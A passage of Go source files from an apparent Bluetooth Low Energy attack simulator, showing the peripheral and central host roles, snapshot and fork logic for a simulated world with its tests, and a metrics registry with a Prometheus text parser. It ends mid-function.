func TestPairBeforeConnectFails(t *testing.T) {
	w := NewWorld(WorldConfig{Seed: 9})
	cen := NewCentral(w.NewDevice(DeviceConfig{Name: "c"}), CentralConfig{})
	if err := cen.Pair(); err == nil {
		t.Fatal("Pair without connection accepted")
	}
	if err := cen.EncryptWithBond(smp.Bond{}); err == nil {
		t.Fatal("EncryptWithBond without connection accepted")
	}
}
