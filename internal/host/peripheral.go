package host

import (
	"injectable/internal/att"
	"injectable/internal/ble/pdu"
	"injectable/internal/gatt"
	"injectable/internal/l2cap"
	"injectable/internal/link"
	"injectable/internal/sim"
	"injectable/internal/smp"
)

// PeripheralConfig configures a Peripheral.
type PeripheralConfig struct {
	// AdvData is the advertising payload; a name AD structure is built
	// from DeviceName when empty.
	AdvData []byte
	// DeviceName populates the GAP Device Name characteristic (the value
	// scenario B rewrites to "Hacked" after hijacking the slave).
	DeviceName string
	// AdvInterval is the advertising interval (0 = 100 ms).
	AdvInterval sim.Duration
	// ReAdvertise resumes advertising after a disconnection.
	ReAdvertise bool
}

// Peripheral is the GAP Peripheral role: advertiser + GATT server + slave.
type Peripheral struct {
	Device *Device
	GATT   *gatt.Server

	cfg        PeripheralConfig
	advertiser *link.Advertiser
	conn       *link.Conn
	mux        *l2cap.Mux
	pairing    *smp.Pairing
	bonds      []smp.Bond
	nameChar   *gatt.Characteristic

	// OnConnect fires when a central connects.
	OnConnect func(conn *link.Conn)
	// OnDisconnect fires when the connection ends.
	OnDisconnect func(reason link.DisconnectReason)
}

// NewPeripheral builds a peripheral on the device. The GAP service with the
// Device Name characteristic is registered automatically.
func NewPeripheral(dev *Device, cfg PeripheralConfig) *Peripheral {
	p := &Peripheral{Device: dev, cfg: cfg}
	p.GATT = gatt.NewServer(func(b []byte) {
		if p.mux != nil {
			p.mux.Send(l2cap.CIDATT, b)
		}
	})
	p.nameChar = &gatt.Characteristic{
		UUID:       att.UUID16(0x2A00),
		Properties: gatt.PropRead,
		Value:      []byte(cfg.DeviceName),
	}
	p.GATT.AddService(&gatt.Service{
		UUID:            att.UUID16(0x1800),
		Characteristics: []*gatt.Characteristic{p.nameChar},
	})
	if len(p.cfg.AdvData) == 0 && cfg.DeviceName != "" {
		name := []byte(cfg.DeviceName)
		p.cfg.AdvData = append([]byte{byte(len(name) + 1), 0x09}, name...)
	}
	return p
}

// Conn returns the active slave connection, if any.
func (p *Peripheral) Conn() *link.Conn { return p.conn }

// Connected reports whether a central is connected.
func (p *Peripheral) Connected() bool { return p.conn != nil && !p.conn.Closed() }

// DeviceNameChar returns the GAP Device Name characteristic.
func (p *Peripheral) DeviceNameChar() *gatt.Characteristic { return p.nameChar }

// Bonds lists the stored pairing bonds.
func (p *Peripheral) Bonds() []smp.Bond { return append([]smp.Bond(nil), p.bonds...) }

// AddBond pre-loads a bond (as if pairing happened in a previous session).
func (p *Peripheral) AddBond(b smp.Bond) { p.bonds = append(p.bonds, b) }

// StartAdvertising begins broadcasting connectable advertisements.
func (p *Peripheral) StartAdvertising() {
	if p.advertiser != nil {
		p.advertiser.Stop()
	}
	p.advertiser = link.NewAdvertiser(p.Device.Stack, link.AdvertiserConfig{
		AdvData:  p.cfg.AdvData,
		Interval: p.cfg.AdvInterval,
	})
	p.advertiser.OnConnect = p.attach
	p.advertiser.Start()
}

// StopAdvertising ceases advertising.
func (p *Peripheral) StopAdvertising() {
	if p.advertiser != nil {
		p.advertiser.Stop()
	}
}

// attach wires the upper stack onto a new slave connection.
func (p *Peripheral) attach(conn *link.Conn) {
	p.conn = conn
	p.mux = l2cap.NewMux(connTransport{conn})
	p.mux.Handle(l2cap.CIDATT, p.GATT.HandlePDU)

	pairing := smp.NewResponder(smp.Config{
		Send:        func(b []byte) { p.mux.Send(l2cap.CIDSMP, b) },
		RNG:         p.Device.Stack.RNG.Child("smp"),
		LocalAddr:   p.Device.Stack.Address,
		RemoteAddr:  conn.Peer(),
		LocalRandom: true, RemoteRandom: true,
		OnComplete: func(b smp.Bond, err error) {
			if err == nil {
				p.bonds = append(p.bonds, b)
			}
		},
	})
	p.pairing = pairing
	p.mux.Handle(l2cap.CIDSMP, pairing.HandlePDU)

	conn.OnData = func(d pdu.DataPDU) { p.mux.HandlePDU(d) }
	conn.OnLTKRequest = func(rand [8]byte, ediv uint16) ([16]byte, bool) {
		if rand == ([8]byte{}) && ediv == 0 {
			// STK phase of an in-progress pairing.
			return pairing.STK()
		}
		for _, b := range p.bonds {
			if b.EDIV == ediv && b.Rand == rand {
				return b.LTK, true
			}
		}
		return [16]byte{}, false
	}
	conn.OnEncryptionChange = func(on bool) {
		if on {
			pairing.OnEncrypted()
		}
	}
	p.GATT.ATT().Encrypted = conn.Encrypted
	conn.OnDisconnect = func(r link.DisconnectReason) {
		p.conn = nil
		p.mux = nil
		if p.OnDisconnect != nil {
			p.OnDisconnect(r)
		}
		if p.cfg.ReAdvertise {
			p.StartAdvertising()
		}
	}
	if p.OnConnect != nil {
		p.OnConnect(conn)
	}
}

// connTransport adapts link.Conn to l2cap.Transport.
type connTransport struct{ conn *link.Conn }

// Send implements l2cap.Transport.
func (t connTransport) Send(llid pdu.LLID, payload []byte) { t.conn.Send(llid, payload) }
