package host

import "injectable/internal/sim"

// Snapshot is an immutable capture of a World's complete simulation state:
// the scheduler (event heap, free list, generations), every random stream's
// position, the medium's in-flight transmissions and caches, all device
// link-layer and clock state, the observability hub, and every extra root
// registered with AddSnapshotRoot. Create with World.Snapshot, roll back
// with World.Fork.
type Snapshot struct {
	w   *World
	cap *sim.Capture
}

// AddSnapshotRoot registers extra objects a Snapshot must capture. The
// snapshot engine reaches state through struct fields, slices, maps and
// interfaces — but not through callback closures, so any stateful object
// attached to the world only via callbacks (Peripheral/Central wrappers,
// device models, attacker tooling) must be registered here before
// Snapshot is taken. Each root must be a pointer.
func (w *World) AddSnapshotRoot(roots ...any) {
	w.roots = append(w.roots, roots...)
}

// Snapshot deep-captures the world. The capture is cheap relative to the
// warm-up it amortises (one typed copy per reachable object) and does not
// disturb the world: simulation can continue immediately.
func (w *World) Snapshot() *Snapshot {
	roots := make([]any, 0, 2+len(w.devices)+len(w.roots))
	roots = append(roots, w)
	for _, d := range w.devices {
		roots = append(roots, d)
	}
	roots = append(roots, w.roots...)
	return &Snapshot{w: w, cap: sim.CaptureRoots(roots...)}
}

// Fork rolls this world back to the snapshot, beginning a new timeline
// from the captured instant. Forking is restore-in-place: scheduled
// callbacks close over this world's object graph, so a snapshot can only
// ever be resumed inside the world it was taken from (parallel trials each
// warm their own world — the campaign engine keeps one per worker). Events
// scheduled and state mutated after the snapshot are discarded; EventRefs
// issued before it become valid again. Fork may be called any number of
// times on the same snapshot.
func (w *World) Fork(s *Snapshot) {
	if s.w != w {
		panic("host: forking a snapshot taken from a different world")
	}
	s.cap.Restore()
}

// RekeyStreams deterministically reseeds every random stream reachable in
// the world — the world stream, per-device and clock streams, the medium's
// stream, and streams held by registered snapshot roots — deriving each
// stream's new seed from its own construction seed and salt. Two worlds
// with identical stream identities rekeyed with the same salt produce
// identical subsequent draws, which is what makes a forked trial
// byte-identical to a fresh world warmed the same way and rekeyed with the
// same salt. Call it immediately after Fork to give each forked trial
// independent randomness.
func (w *World) RekeyStreams(salt uint64) {
	roots := make([]any, 0, 2+len(w.devices)+len(w.roots))
	roots = append(roots, w)
	for _, d := range w.devices {
		roots = append(roots, d)
	}
	roots = append(roots, w.roots...)
	sim.VisitRNGs(func(g *sim.RNG) { g.Rekey(salt) }, roots...)
}
