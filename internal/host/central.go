package host

import (
	"fmt"

	"injectable/internal/att"
	"injectable/internal/ble"
	"injectable/internal/ble/pdu"
	"injectable/internal/gatt"
	"injectable/internal/l2cap"
	"injectable/internal/link"
	"injectable/internal/sim"
	"injectable/internal/smp"
)

// CentralConfig configures a Central.
type CentralConfig struct {
	// ConnParams proposes connection parameters (defaults applied for
	// zero fields; Interval 36 ≈ a phone's default, paper §VII-C).
	ConnParams link.ConnParams
}

// Central is the GAP Central role: initiator + GATT client + master.
type Central struct {
	Device *Device

	cfg       CentralConfig
	initiator *link.Initiator
	conn      *link.Conn
	mux       *l2cap.Mux
	gattc     *gatt.Client
	pairing   *smp.Pairing
	bond      *smp.Bond

	// OnConnect fires when the connection is established.
	OnConnect func(conn *link.Conn)
	// OnDisconnect fires when the connection ends.
	OnDisconnect func(reason link.DisconnectReason)
	// OnPaired fires when pairing + key distribution completes.
	OnPaired func(bond smp.Bond, err error)
}

// NewCentral builds a central on the device.
func NewCentral(dev *Device, cfg CentralConfig) *Central {
	return &Central{Device: dev, cfg: cfg}
}

// Conn returns the active master connection, if any.
func (c *Central) Conn() *link.Conn { return c.conn }

// Connected reports whether a peripheral is connected.
func (c *Central) Connected() bool { return c.conn != nil && !c.conn.Closed() }

// GATT returns the GATT client (valid once connected).
func (c *Central) GATT() *gatt.Client { return c.gattc }

// Bond returns the key material from the last successful pairing.
func (c *Central) Bond() *smp.Bond { return c.bond }

// Connect scans for the target peripheral and connects.
func (c *Central) Connect(target ble.Address) {
	if c.initiator != nil {
		c.initiator.Stop()
	}
	c.initiator = link.NewInitiator(c.Device.Stack, link.InitiatorConfig{
		Target: target,
		Params: c.cfg.ConnParams,
	})
	c.initiator.OnConnect = c.attach
	c.initiator.Start()
}

// attach wires the upper stack onto a new master connection.
func (c *Central) attach(conn *link.Conn) {
	c.conn = conn
	c.mux = l2cap.NewMux(connTransport{conn})
	attClient := att.NewClient(func(b []byte) { c.mux.Send(l2cap.CIDATT, b) })
	// The spec's 30 s ATT transaction timeout: without it a request lost
	// to interference (or to a hijack) would wedge the client forever.
	sched := c.Device.World.Sched
	attClient.SetTransactionTimer(func(expire func()) func() {
		ev := sched.After(30*sim.Second, "att-transaction-timeout", expire)
		return func() { sched.Cancel(ev) }
	})
	c.gattc = gatt.NewClient(attClient)
	c.mux.Handle(l2cap.CIDATT, c.gattc.HandlePDU)
	conn.OnData = func(d pdu.DataPDU) { c.mux.HandlePDU(d) }
	conn.OnDisconnect = func(r link.DisconnectReason) {
		c.conn = nil
		if c.OnDisconnect != nil {
			c.OnDisconnect(r)
		}
	}
	if c.OnConnect != nil {
		c.OnConnect(conn)
	}
}

// Pair runs legacy Just Works pairing over the active connection. The
// resulting bond arrives via OnPaired and Bond().
func (c *Central) Pair() error {
	if !c.Connected() {
		return fmt.Errorf("host: not connected")
	}
	conn := c.conn
	pairing := smp.NewInitiator(smp.Config{
		Send:        func(b []byte) { c.mux.Send(l2cap.CIDSMP, b) },
		RNG:         c.Device.Stack.RNG.Child("smp"),
		LocalAddr:   c.Device.Stack.Address,
		RemoteAddr:  conn.Peer(),
		LocalRandom: true, RemoteRandom: true,
		StartEncryption: func(key [16]byte, rand [8]byte, ediv uint16) error {
			return conn.StartEncryption(key, rand, ediv)
		},
		OnComplete: func(b smp.Bond, err error) {
			if err == nil {
				bond := b
				c.bond = &bond
			}
			if c.OnPaired != nil {
				c.OnPaired(b, err)
			}
		},
	})
	c.pairing = pairing
	c.mux.Handle(l2cap.CIDSMP, pairing.HandlePDU)
	conn.OnEncryptionChange = func(on bool) {
		if on {
			pairing.OnEncrypted()
		}
	}
	return pairing.Start()
}

// EncryptWithBond starts LL encryption using a stored bond (reconnection
// after earlier pairing).
func (c *Central) EncryptWithBond(b smp.Bond) error {
	if !c.Connected() {
		return fmt.Errorf("host: not connected")
	}
	return c.conn.StartEncryption(b.LTK, b.Rand, b.EDIV)
}
