package host_test

import (
	"fmt"
	"testing"

	"injectable/internal/devices"
	"injectable/internal/host"
	"injectable/internal/link"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// connectedWorld builds a lightbulb + smartphone world and registers the
// wrappers as snapshot roots, the way fork-based trials do.
func connectedWorld(t *testing.T, seed uint64) (*host.World, *devices.Lightbulb, *devices.Smartphone) {
	t.Helper()
	w := host.NewWorld(host.WorldConfig{Seed: seed})
	bulb := devices.NewLightbulb(w.NewDevice(host.DeviceConfig{Name: "bulb"}))
	phone := devices.NewSmartphone(w.NewDevice(host.DeviceConfig{
		Name: "central", Position: phy.Position{X: 2},
	}), devices.SmartphoneConfig{
		ConnParams:       link.ConnParams{Interval: 36},
		ActivityInterval: -1,
	})
	w.AddSnapshotRoot(bulb, phone)
	bulb.Peripheral.StartAdvertising()
	phone.Connect(bulb.Peripheral.Device.Address())
	return w, bulb, phone
}

// fingerprint digests the observable end state of a run, including the
// exact positions of two random streams (equal positions mean both runs
// consumed randomness identically all the way through).
func fingerprint(w *host.World, bulb *devices.Lightbulb, phone *devices.Smartphone) string {
	probe1 := phone.Central.Device.Stack.RNG.Uint64()
	probe2 := bulb.Peripheral.Device.Stack.RNG.Uint64()
	return fmt.Sprint(w.Sched.Processed(), w.Now(), phone.Central.Connected(),
		bulb.Peripheral.Connected(), probe1, probe2)
}

func TestWorldForkReplaysIdentically(t *testing.T) {
	w, bulb, phone := connectedWorld(t, 424242)
	w.RunFor(1 * sim.Second)
	snap := w.Snapshot()

	w.RunFor(2 * sim.Second)
	first := fingerprint(w, bulb, phone)

	w.Fork(snap)
	w.RunFor(2 * sim.Second)
	if second := fingerprint(w, bulb, phone); second != first {
		t.Fatalf("forked timeline diverged:\n first=%s\nsecond=%s", first, second)
	}
}

func TestWorldForkIsRepeatable(t *testing.T) {
	w, bulb, phone := connectedWorld(t, 7)
	w.RunFor(1500 * sim.Millisecond)
	snap := w.Snapshot()

	var prints []string
	for i := 0; i < 3; i++ {
		w.Fork(snap)
		w.RunFor(1500 * sim.Millisecond)
		prints = append(prints, fingerprint(w, bulb, phone))
	}
	if prints[1] != prints[0] || prints[2] != prints[0] {
		t.Fatalf("repeated forks diverged: %v", prints)
	}
}

func TestForkRekeyMatchesFreshWorldRekey(t *testing.T) {
	const seed, salt = 99, 31337

	// Path A: warm, snapshot, fork, rekey, run.
	wa, bulbA, phoneA := connectedWorld(t, seed)
	wa.RunFor(2 * sim.Second)
	snap := wa.Snapshot()
	wa.Fork(snap)
	wa.RekeyStreams(salt)
	wa.RunFor(2 * sim.Second)
	a := fingerprint(wa, bulbA, phoneA)

	// Path B: fresh world, identical warm, rekey, run — no snapshot at all.
	wb, bulbB, phoneB := connectedWorld(t, seed)
	wb.RunFor(2 * sim.Second)
	wb.RekeyStreams(salt)
	wb.RunFor(2 * sim.Second)
	b := fingerprint(wb, bulbB, phoneB)

	if a != b {
		t.Fatalf("fork+rekey diverged from fresh+rekey:\nfork =%s\nfresh=%s", a, b)
	}
}

func TestForkForeignSnapshotPanics(t *testing.T) {
	wa, _, _ := connectedWorld(t, 1)
	wb, _, _ := connectedWorld(t, 2)
	snap := wa.Snapshot()
	defer func() {
		if recover() == nil {
			t.Fatal("expected panic forking a foreign snapshot")
		}
	}()
	wb.Fork(snap)
}
