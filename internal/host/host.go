// Package host assembles the full per-device BLE stack — radio, Link
// Layer, L2CAP, ATT/GATT and Security Manager — into the two GAP roles of
// the connected mode: Peripheral (advertises, serves GATT, slave) and
// Central (scans, connects, GATT client, master).
//
// It also provides World, the container for one simulated radio
// environment: scheduler, medium and RNG, in which devices and attackers
// are placed at physical positions.
package host

import (
	"injectable/internal/ble"
	"injectable/internal/link"
	"injectable/internal/medium"
	"injectable/internal/obs"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// World is one simulated radio environment.
type World struct {
	Sched  *sim.Scheduler
	RNG    *sim.RNG
	Medium *medium.Medium
	Tracer sim.Tracer
	Obs    *obs.Hub

	// devices lists every device created in this world, so a snapshot
	// reaches link-layer and clock state even where no other pointer path
	// leads to it.
	devices []*Device
	// roots holds extra snapshot roots registered by the owner (device
	// wrappers, attacker tooling — anything reachable only through
	// callbacks, which the snapshot engine does not traverse).
	roots []any
}

// WorldConfig configures a World.
type WorldConfig struct {
	// Seed drives all randomness; runs with equal seeds are identical.
	Seed uint64
	// Medium configures propagation and capture; zero value = defaults.
	Medium medium.Config
	// Tracer observes all stack events. Nil = no tracing.
	Tracer sim.Tracer
	// Obs collects metrics and injection forensics from every layer of
	// this world (phy/medium/link/injectable). Nil = no observability.
	Obs *obs.Hub
	// Arena, when set, recycles scheduler events and frame buffers from the
	// previous world built on the same arena (one live world per arena —
	// see sim.Arena). Campaign workers thread one arena through their
	// trials; nil means fresh allocations.
	Arena *sim.Arena
}

// NewWorld creates an empty environment.
func NewWorld(cfg WorldConfig) *World {
	var sched *sim.Scheduler
	if cfg.Arena != nil {
		sched = cfg.Arena.NewScheduler()
		if cfg.Medium.Arena == nil {
			cfg.Medium.Arena = cfg.Arena.Bytes()
		}
	} else {
		sched = sim.NewScheduler()
	}
	rng := sim.NewRNG(cfg.Seed)
	if cfg.Medium.Tracer == nil {
		cfg.Medium.Tracer = cfg.Tracer
	}
	if cfg.Medium.Obs == nil {
		cfg.Medium.Obs = cfg.Obs
	}
	return &World{
		Sched:  sched,
		RNG:    rng,
		Medium: medium.New(sched, rng, cfg.Medium),
		Tracer: cfg.Tracer,
		Obs:    cfg.Obs,
	}
}

// RunFor advances the simulation by d.
func (w *World) RunFor(d sim.Duration) { w.Sched.RunFor(d) }

// Run drains the event queue (careful: periodic activity never drains).
func (w *World) Run() { w.Sched.Run() }

// Now returns the current simulation time.
func (w *World) Now() sim.Time { return w.Sched.Now() }

// DeviceConfig describes one radio device.
type DeviceConfig struct {
	// Name labels the device in traces.
	Name string
	// Address is the device address; zero draws a static random one.
	Address ble.Address
	// Position in the floor plan (metres).
	Position phy.Position
	// TxPower in dBm (0 = default 0 dBm).
	TxPower phy.DBm
	// ClockPPM rates the sleep clock (0 = 50 ppm). The actual error is
	// drawn within ±ClockPPM unless ActualPPM pins it.
	ClockPPM float64
	// ActualPPM pins the true clock error.
	ActualPPM *float64
	// ClockJitter is wakeup jitter σ (0 = 1 µs).
	ClockJitter sim.Duration
	// WideningScale shrinks the slave receive-window widening (the §VIII
	// stack-side countermeasure; 0 = spec behaviour).
	WideningScale float64
}

// Device is a positioned radio with its clock and identity — the raw
// material for Peripheral, Central, and the attacker tooling.
type Device struct {
	World *World
	Stack *link.Stack
}

// NewDevice creates a device in the world.
func (w *World) NewDevice(cfg DeviceConfig) *Device {
	rng := w.RNG.Child(cfg.Name)
	if cfg.ClockPPM == 0 {
		cfg.ClockPPM = 50
	}
	if cfg.ClockJitter == 0 {
		cfg.ClockJitter = sim.Microsecond
	}
	addr := cfg.Address
	if addr == (ble.Address{}) {
		addr = ble.RandomAddress(rng)
	}
	clock := sim.NewClock(w.Sched, rng.Child("clock"), sim.ClockConfig{
		RatedPPM:     cfg.ClockPPM,
		ActualPPM:    cfg.ActualPPM,
		JitterStdDev: cfg.ClockJitter,
	})
	radio := w.Medium.NewRadio(medium.RadioConfig{
		Name:     cfg.Name,
		Position: cfg.Position,
		TxPower:  cfg.TxPower,
	})
	d := &Device{
		World: w,
		Stack: &link.Stack{
			Name:          cfg.Name,
			Sched:         w.Sched,
			Clock:         clock,
			RNG:           rng,
			Radio:         radio,
			Tracer:        w.Tracer,
			Obs:           w.Obs,
			Address:       addr,
			WideningScale: cfg.WideningScale,
		},
	}
	w.devices = append(w.devices, d)
	return d
}

// Address returns the device's address.
func (d *Device) Address() ble.Address { return d.Stack.Address }

// Position returns the device's antenna position.
func (d *Device) Position() phy.Position { return d.Stack.Radio.Position() }

// SetPosition moves the device.
func (d *Device) SetPosition(p phy.Position) { d.Stack.Radio.SetPosition(p) }
