// Package obs is the observability layer of the simulator: a
// zero-allocation-on-hot-path metrics registry (counters, gauges,
// fixed-bucket histograms with quantile estimation) plus an injection
// forensics ledger that correlates per-attempt events across the phy,
// medium, link and injectable layers.
//
// Components register instruments once at construction time (the only
// point that takes a lock or allocates) and then update them through
// pre-resolved handles on the hot path using atomics only. Every type
// in the package is safe for concurrent use and nil-receiver-safe, so
// instrumented code can hold nil handles when observability is off and
// call them unconditionally.
package obs

import (
	"math"
	"sort"
	"sync"
	"sync/atomic"
)

// Counter is a monotonically increasing int64. The zero value is ready
// to use; a nil *Counter is a no-op.
type Counter struct {
	v atomic.Int64
}

// Add increments the counter by n.
func (c *Counter) Add(n int64) {
	if c == nil {
		return
	}
	c.v.Add(n)
}

// Inc increments the counter by one.
func (c *Counter) Inc() { c.Add(1) }

// Value returns the current count.
func (c *Counter) Value() int64 {
	if c == nil {
		return 0
	}
	return c.v.Load()
}

// Gauge is a last-value float64. The zero value is ready to use; a nil
// *Gauge is a no-op.
type Gauge struct {
	bits atomic.Uint64
	set  atomic.Bool
}

// Set records v as the current value.
func (g *Gauge) Set(v float64) {
	if g == nil {
		return
	}
	g.bits.Store(math.Float64bits(v))
	g.set.Store(true)
}

// Value returns the last value set (0 if never set).
func (g *Gauge) Value() float64 {
	if g == nil {
		return 0
	}
	return math.Float64frombits(g.bits.Load())
}

// Histogram is a fixed-bucket histogram. Bucket i counts observations
// v with bounds[i-1] < v <= bounds[i]; one extra overflow bucket counts
// v > bounds[len-1]. Sum, count, min and max are tracked exactly so
// quantile estimates can be clamped to the observed range. A nil
// *Histogram is a no-op.
type Histogram struct {
	bounds  []float64
	buckets []atomic.Int64 // len(bounds)+1; last is overflow
	count   atomic.Int64
	sum     atomicFloat
	min     atomicFloat
	max     atomicFloat
}

// atomicFloat is a float64 updated with CAS loops.
type atomicFloat struct{ bits atomic.Uint64 }

func (f *atomicFloat) store(v float64) { f.bits.Store(math.Float64bits(v)) }
func (f *atomicFloat) load() float64   { return math.Float64frombits(f.bits.Load()) }

func (f *atomicFloat) add(v float64) {
	for {
		old := f.bits.Load()
		next := math.Float64bits(math.Float64frombits(old) + v)
		if f.bits.CompareAndSwap(old, next) {
			return
		}
	}
}

func (f *atomicFloat) storeMin(v float64) {
	for {
		old := f.bits.Load()
		if math.Float64frombits(old) <= v {
			return
		}
		if f.bits.CompareAndSwap(old, math.Float64bits(v)) {
			return
		}
	}
}

func (f *atomicFloat) storeMax(v float64) {
	for {
		old := f.bits.Load()
		if math.Float64frombits(old) >= v {
			return
		}
		if f.bits.CompareAndSwap(old, math.Float64bits(v)) {
			return
		}
	}
}

func newHistogram(bounds []float64) *Histogram {
	b := make([]float64, len(bounds))
	copy(b, bounds)
	sort.Float64s(b)
	h := &Histogram{bounds: b, buckets: make([]atomic.Int64, len(b)+1)}
	h.min.store(math.Inf(1))
	h.max.store(math.Inf(-1))
	return h
}

// Observe records one sample. It never allocates.
func (h *Histogram) Observe(v float64) {
	if h == nil {
		return
	}
	i := sort.SearchFloat64s(h.bounds, v)
	h.buckets[i].Add(1)
	h.count.Add(1)
	h.sum.add(v)
	h.min.storeMin(v)
	h.max.storeMax(v)
}

// Count returns the number of observations.
func (h *Histogram) Count() int64 {
	if h == nil {
		return 0
	}
	return h.count.Load()
}

// Quantile estimates the q-th quantile (0 <= q <= 1) by linear
// interpolation inside the bucket holding rank q*(n-1), clamped to the
// observed min/max. It returns 0 when the histogram is empty.
func (h *Histogram) Quantile(q float64) float64 {
	if h == nil {
		return 0
	}
	return h.snapshot("").Quantile(q)
}

func (h *Histogram) snapshot(name string) HistogramSnapshot {
	s := HistogramSnapshot{
		Name:   name,
		Bounds: h.bounds,
		Counts: make([]int64, len(h.buckets)),
		Count:  h.count.Load(),
		Sum:    h.sum.load(),
	}
	for i := range h.buckets {
		s.Counts[i] = h.buckets[i].Load()
	}
	if s.Count > 0 {
		s.Min, s.Max = h.min.load(), h.max.load()
	}
	return s
}

// LinearBuckets returns n upper bounds start, start+width, ...
func LinearBuckets(start, width float64, n int) []float64 {
	b := make([]float64, n)
	for i := range b {
		b[i] = start + width*float64(i)
	}
	return b
}

// ExponentialBuckets returns n upper bounds start, start*factor, ...
func ExponentialBuckets(start, factor float64, n int) []float64 {
	b := make([]float64, n)
	v := start
	for i := range b {
		b[i] = v
		v *= factor
	}
	return b
}

// LatencyBucketsMS returns the standard millisecond latency layout shared
// by the serving and fabric layers: doubling buckets from 1 ms to ~32 s.
// Sharing one layout keeps queue-wait, job end-to-end and shard-latency
// histograms directly comparable in one dashboard.
func LatencyBucketsMS() []float64 { return ExponentialBuckets(1, 2, 16) }

// Registry is a named collection of instruments. Registration
// (Counter/Gauge/Histogram) is get-or-create under a mutex and returns
// a stable handle; the handles themselves are lock-free. A nil
// *Registry returns nil handles, which are no-ops.
type Registry struct {
	mu       sync.Mutex
	counters map[string]*Counter
	gauges   map[string]*Gauge
	hists    map[string]*Histogram
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{
		counters: make(map[string]*Counter),
		gauges:   make(map[string]*Gauge),
		hists:    make(map[string]*Histogram),
	}
}

// Counter returns the counter with the given name, creating it if
// needed.
func (r *Registry) Counter(name string) *Counter {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	c, ok := r.counters[name]
	if !ok {
		c = &Counter{}
		r.counters[name] = c
	}
	return c
}

// Gauge returns the gauge with the given name, creating it if needed.
func (r *Registry) Gauge(name string) *Gauge {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	g, ok := r.gauges[name]
	if !ok {
		g = &Gauge{}
		r.gauges[name] = g
	}
	return g
}

// Histogram returns the histogram with the given name, creating it
// with the given bucket upper bounds if needed. The bounds of an
// existing histogram are kept (first registration wins).
func (r *Registry) Histogram(name string, bounds []float64) *Histogram {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	h, ok := r.hists[name]
	if !ok {
		h = newHistogram(bounds)
		r.hists[name] = h
	}
	return h
}

// Snapshot captures every instrument in deterministic (name-sorted)
// order. Safe to call concurrently with updates.
func (r *Registry) Snapshot() *Snapshot {
	s := &Snapshot{}
	if r == nil {
		return s
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	for name, c := range r.counters {
		s.Counters = append(s.Counters, CounterSnapshot{Name: name, Value: c.Value()})
	}
	for name, g := range r.gauges {
		if g.set.Load() {
			s.Gauges = append(s.Gauges, GaugeSnapshot{Name: name, Value: g.Value()})
		}
	}
	for name, h := range r.hists {
		s.Histograms = append(s.Histograms, h.snapshot(name))
	}
	sort.Slice(s.Counters, func(i, j int) bool { return s.Counters[i].Name < s.Counters[j].Name })
	sort.Slice(s.Gauges, func(i, j int) bool { return s.Gauges[i].Name < s.Gauges[j].Name })
	sort.Slice(s.Histograms, func(i, j int) bool { return s.Histograms[i].Name < s.Histograms[j].Name })
	return s
}
