package obs

import (
	"fmt"
	"math"
	"sort"
	"strconv"
	"strings"
)

// PromSample is one parsed exposition sample.
type PromSample struct {
	// Name is the full series name, including any _bucket/_sum/_count
	// suffix for histogram children.
	Name string
	// Labels holds the unescaped label pairs in order of appearance.
	Labels []promLabel
	// Value is the sample value.
	Value float64
}

// Label returns the value of the named label ("" when absent).
func (s PromSample) Label(name string) string {
	for _, l := range s.Labels {
		if l.Name == name {
			return l.Value
		}
	}
	return ""
}

// PromFamily is one parsed metric family: a TYPE declaration plus its
// samples in input order.
type PromFamily struct {
	Name    string
	Type    string // "counter", "gauge", "histogram", "summary", "untyped"
	Samples []PromSample
}

// ParsePromText strictly parses and validates a Prometheus text
// exposition (format 0.0.4). Beyond the grammar, it enforces the
// invariants a correct exporter must hold:
//
//   - every sample belongs to a family declared by a preceding # TYPE
//     line, and each family is declared exactly once;
//   - metric and label names are lexically valid; label values use only
//     legal escapes; values parse as floats (+Inf/-Inf/NaN allowed);
//   - no two samples share the same name and label set;
//   - counter values are finite and non-negative;
//   - each histogram has a le="+Inf" bucket, its buckets are cumulative
//     (non-decreasing in le order), _count equals the +Inf bucket, and a
//     _sum sample is present.
//
// It returns the families keyed by name. Any violation is an error
// naming the offending line.
func ParsePromText(data []byte) (map[string]*PromFamily, error) {
	families := map[string]*PromFamily{}
	var current *PromFamily
	seenSeries := map[string]bool{}

	lines := strings.Split(string(data), "\n")
	for i, line := range lines {
		lineNo := i + 1
		if line == "" {
			continue
		}
		if strings.HasPrefix(line, "#") {
			fields := strings.SplitN(line, " ", 4)
			if len(fields) < 2 {
				continue // bare comment
			}
			switch fields[1] {
			case "TYPE":
				if len(fields) != 4 {
					return nil, fmt.Errorf("line %d: malformed TYPE line %q", lineNo, line)
				}
				name, typ := fields[2], fields[3]
				if !validMetricName(name) {
					return nil, fmt.Errorf("line %d: invalid metric name %q", lineNo, name)
				}
				switch typ {
				case "counter", "gauge", "histogram", "summary", "untyped":
				default:
					return nil, fmt.Errorf("line %d: unknown metric type %q", lineNo, typ)
				}
				if _, dup := families[name]; dup {
					return nil, fmt.Errorf("line %d: family %q declared twice", lineNo, name)
				}
				current = &PromFamily{Name: name, Type: typ}
				families[name] = current
			case "HELP":
				// HELP text is free-form; nothing to validate.
			default:
				// Other comments are permitted by the format.
			}
			continue
		}

		sample, err := parsePromSample(line)
		if err != nil {
			return nil, fmt.Errorf("line %d: %w", lineNo, err)
		}
		fam := familyFor(current, sample.Name)
		if fam == nil {
			return nil, fmt.Errorf("line %d: sample %q outside its family's TYPE block", lineNo, sample.Name)
		}
		if fam.Type == "counter" && (sample.Value < 0 || math.IsInf(sample.Value, 0) || math.IsNaN(sample.Value)) {
			return nil, fmt.Errorf("line %d: counter %s has non-finite or negative value %v", lineNo, sample.Name, sample.Value)
		}
		key := seriesKey(sample)
		if seenSeries[key] {
			return nil, fmt.Errorf("line %d: duplicate series %s", lineNo, key)
		}
		seenSeries[key] = true
		fam.Samples = append(fam.Samples, sample)
	}

	for _, fam := range families {
		if fam.Type == "histogram" {
			if err := validateHistogramFamily(fam); err != nil {
				return nil, err
			}
		}
	}
	return families, nil
}

// familyFor matches a sample to the family whose TYPE block it is in.
// Histogram children (_bucket/_sum/_count) belong to their parent.
func familyFor(current *PromFamily, sampleName string) *PromFamily {
	if current == nil {
		return nil
	}
	if sampleName == current.Name {
		return current
	}
	if current.Type == "histogram" || current.Type == "summary" {
